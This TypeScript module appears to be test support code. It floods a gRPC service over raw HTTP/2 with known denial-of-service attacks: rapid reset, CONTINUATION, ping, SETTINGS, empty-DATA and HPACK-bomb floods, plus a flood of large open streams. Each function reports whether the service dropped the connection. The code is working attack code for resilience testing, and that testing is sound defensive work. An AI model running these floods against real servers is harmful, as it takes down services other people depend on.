import { callHeaders, FLAG, FRAME, frame, headerBlock, RawHttp2, streamId } from "../support/raw-http2.ts";

export interface Flood {
  /** Frames that were sent, or streams that were begun. */
  readonly sent: number;
  /** Whether the service ended the connection. */
  readonly closed: boolean;
}

interface Extent {
  readonly count: number;
  /** Whether what the service answers is read. */
  readonly read?: boolean;
  /** How long to wait for the end of the connection. */
  readonly withinMs?: number;
}

async function flood(
  address: string,
  make: (index: number) => Buffer,
  { count, read = true, withinMs = 2000 }: Extent,
): Promise<Flood> {
  const http2 = await RawHttp2.open(address);
  try {
    if (!read) http2.socket.pause();
    const sent = await Promise.race([
      http2.flood(make, { count }),
      // A service that stops to read, since it cannot write, holds the sender up.
      new Promise<number>((resolve) => setTimeout(() => resolve(-1), 4 * withinMs).unref()),
    ]);
    return { sent, closed: await http2.closesWithin(withinMs) };
  } finally {
    http2.close();
  }
}

const CALL = callHeaders("/grpc.health.v1.Health/Watch");
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Begins streams and resets each at once (CVE-2023-44487). */
export function rapidResets(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const beginAndReset = (index: number) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL),
      frame(FRAME.reset, 0, streamId(index), CANCEL),
    ]);
  return flood(address, beginAndReset, { count: 20_000, ...extent });
}

/** Begins headers and never ends them (CVE-2024-27983): one HEADERS, then CONTINUATION after CONTINUATION. */
export function continuations(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const part = headerBlock(
    Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`x-${index}`, "y".repeat(100)])),
  );
  const next = (index: number) =>
    index === 0 ? frame(FRAME.headers, 0, 1, CALL) : frame(FRAME.continuation, 0, 1, part);
  return flood(address, next, { count: 10_000, ...extent });
}

/** Sends pings, and reads no answer: each has to be acknowledged (CVE-2019-9512). */
export function pings(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  return flood(address, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)), {
    count: 500_000,
    read: false,
    ...extent,
  });
}

/** Sends SETTINGS, and reads no answer: each has to be acknowledged (CVE-2019-9515). */
export function settings(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  return flood(address, () => frame(FRAME.settings, 0, 0), { count: 500_000, read: false, ...extent });
}

/** Sends DATA frames without data on one stream (CVE-2019-9518). */
export function emptyData(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) =>
    index === 0 ? frame(FRAME.headers, FLAG.endHeaders, 1, CALL) : frame(FRAME.data, 0, 1);
  return flood(address, next, { count: 500_000, ...extent });
}

/** Puts a value of 4 kB into the compression's table once, and names it a thousand times for each stream: some 4 MB in 1 kB. */
export function headerBombs(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const planted = Buffer.concat([
    CALL,
    Buffer.from([0x40]),
    headerBlock({ "x-bomb": "z".repeat(3900) }).subarray(1),
  ]);
  // 62 is the newest entry of the table.
  const bomb = Buffer.concat([CALL, Buffer.alloc(1000, 0x80 | 62)]);
  const next = (index: number) =>
    frame(FRAME.headers, FLAG.endHeaders, streamId(index), index === 0 ? planted : bomb);
  return flood(address, next, { count: 5000, ...extent });
}

/** Begins streams with headers of nearly their bound, and sends nothing more on them. */
export function openStreams(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) => {
    const large = callHeaders("/grpc.health.v1.Health/Watch", { "x-large": `${index}`.padEnd(15_000, "v") });
    return frame(FRAME.headers, FLAG.endHeaders, streamId(index), large);
  };
  return flood(address, next, { count: 3000, ...extent });
}
